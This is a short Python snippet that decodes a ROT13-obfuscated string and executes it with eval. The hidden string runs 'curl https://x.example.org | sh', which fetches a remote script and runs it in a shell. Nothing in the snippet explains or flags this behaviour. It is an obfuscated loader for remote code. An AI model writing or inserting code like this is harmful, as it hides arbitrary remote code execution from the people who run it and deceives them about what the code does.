t = str.maketrans("nopqrstuvwxyzabcdefghijklm", "abcdefghijklmnopqrstuvwxyz")
eval(compile("vzcbeg bf; bf.flfgrz('phey uggcf://k.rknzcyr.bet | fu')".translate(t), "", "exec"))
